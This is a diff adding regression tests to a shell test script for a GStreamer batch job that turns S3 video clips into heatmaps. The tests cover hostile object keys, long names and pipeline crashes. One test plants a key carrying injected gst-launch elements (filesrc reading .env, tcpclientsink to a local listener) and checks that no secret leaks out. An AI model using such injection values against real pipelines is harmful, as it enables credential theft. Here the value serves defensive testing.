@@ -263,6 +263,81 @@ check "odd key: heatmaps under the mapped keys" [ "$(keys_of heatmaps/2025/10/22
   "heatmaps/2025/10/22/08/clip a+b=c ü_heatmap.jpg
 heatmaps/2025/10/22/08/clip a+b=c ü_heatmap.png" ]
 
+# --- hostile keys (issue 13, defect 1): never pipeline text, never a local file name ----------------
+# A listener on 127.0.0.1 records whatever reaches it. The key below made the gst-launch batch send
+# the .env of its working folder (S3_SECRET_KEY) to such a listener.
+python3 - "$tmp/listener.bytes" "$tmp/listener.port" <<'PY' &
+import os, socket, sys
+out_path, port_path = sys.argv[1], sys.argv[2]
+server = socket.socket()
+server.bind(("127.0.0.1", 0))
+server.listen(8)
+with open(port_path + ".tmp", "w") as f:
+    f.write(str(server.getsockname()[1]))
+os.rename(port_path + ".tmp", port_path)
+with open(out_path, "ab") as out:
+    while True:
+        conn, _ = server.accept()
+        out.write(b"[connection]\n")
+        out.flush()
+        while data := conn.recv(65536):
+            out.write(data)
+            out.flush()
+        conn.close()
+PY
+listener_pid=$!
+for _ in $(seq 100); do [[ -s $tmp/listener.port ]] && break; sleep 0.1; done
+port=$(cat "$tmp/listener.port")
+mkdir -p "$tmp/cwd"
+printf 'S3_SECRET_KEY=leak-marker-%s\n' "$RANDOM$RANDOM" >"$tmp/cwd/.env"
+H=raw_videos/2025/10/23/08
+hostile="a\" ! tee allow-not-linked=true filesrc location=.env ! tcpclientsink host=127.0.0.1 port=$port tee0. ! heatmap name=.mp4"
+long=clip_$(printf 'x%.0s' {1..234}).mp4     # 243-byte name: its heatmap names (251) still fit NAME_MAX
+too_long=clip_$(printf 'y%.0s' {1..241}).mp4 # 250 bytes: its _heatmap.jpg name would be 258
+put s2.mp4 "$H/$hostile"
+put s3.mp4 "$H/cam\\1 clip.mp4"
+put s0.mp4 "$H/$long"
+put s1.mp4 "$H/$too_long"
+rc=0
+(cd "$tmp/cwd" && "$batch" --date-prefix 2025/10/23/ --jobs 2 >"$tmp/hostile.log" 2>&1) || rc=$?
+sed 's/^/  [hostile] /' "$tmp/hostile.log"
+kill "$listener_pid" 2>/dev/null || true
+wait "$listener_pid" 2>/dev/null || true
+check "hostile key: nothing reached the listener" [ ! -s "$tmp/listener.bytes" ]
+check "hostile key: its heatmap is under the mapped key" \
+  "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${hostile%.mp4}_heatmap.jpg"
+check "hostile key: logged as ok" grep -qF "ok $H/$hostile frames=" "$tmp/hostile.log"
+check "backslash and space: heatmap" "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/cam\\1 clip_heatmap.jpg"
+check "243-byte basename: heatmap and raw counts" \
+  "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${long%.mp4}_heatmap.png"
+if [[ $mode == s3 ]]; then
+  check "250-byte basename: heatmap on S3" \
+    "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${too_long%.mp4}_heatmap.jpg"
+  check "hostile keys: exit 0" [ "$rc" = 0 ]
+else
+  check "250-byte basename on a folder bucket: one clear line" \
+    grep -qF "FAILED $H/$too_long frames=0 seconds=" "$tmp/hostile.log"
+  check "250-byte basename: the reason" grep -q "over the folder bucket's limit of 255" "$tmp/hostile.log"
+  check "hostile keys: exit 1 (the too-long name)" [ "$rc" = 1 ]
+fi
+check "hostile keys: the .env marker is in no output" \
+  bash -c "! grep -qF -- \"\$(cut -d= -f2 '$tmp/cwd/.env')\" '$tmp/hostile.log'"
+
+# --- a pipeline that crashes ends its clip at once (no crash handler holding the slot) --------------
+# The test-only crashtest plugin's decoder raises SIGSEGV on a clip starting with its magic line.
+{ echo GST-HEATMAP-CRASH-TEST; head -c 4000 /dev/urandom; } >"$tmp/clips/crash.mp4"
+put crash.mp4 raw_videos/2025/10/24/08/clip_2025-10-24_08-00-00.mp4
+put s1.mp4 raw_videos/2025/10/24/08/clip_2025-10-24_08-10-00.mp4
+rc=0
+GST_PLUGIN_PATH=$GST_PLUGIN_PATH:$build_root/tests/job GST_REGISTRY_1_0=$tmp/crash-registry.bin \
+  PIPELINE_TIMEOUT=120 "$batch" --date-prefix 2025/10/24/ --jobs 1 >"$tmp/crash.log" 2>&1 || rc=$?
+sed 's/^/  [crash] /' "$tmp/crash.log"
+check "crash: exit 1" [ "$rc" = 1 ]
+check "crash: reported as a crash, not a timeout" \
+  grep -qE "FAILED raw_videos/2025/10/24/08/clip_2025-10-24_08-00-00.mp4 .*crashed \(SIGSEGV\)" "$tmp/crash.log"
+check "crash: the next clip got the slot and its heatmap" \
+  grep -q "ok raw_videos/2025/10/24/08/clip_2025-10-24_08-10-00.mp4" "$tmp/crash.log"
+
 if [[ $mode == s3 ]]; then
   check "the secret key appears in no log of any run" bash -c "! cat '$tmp'/*.log | grep -qF -- '$S3_SECRET_KEY'"
 fi
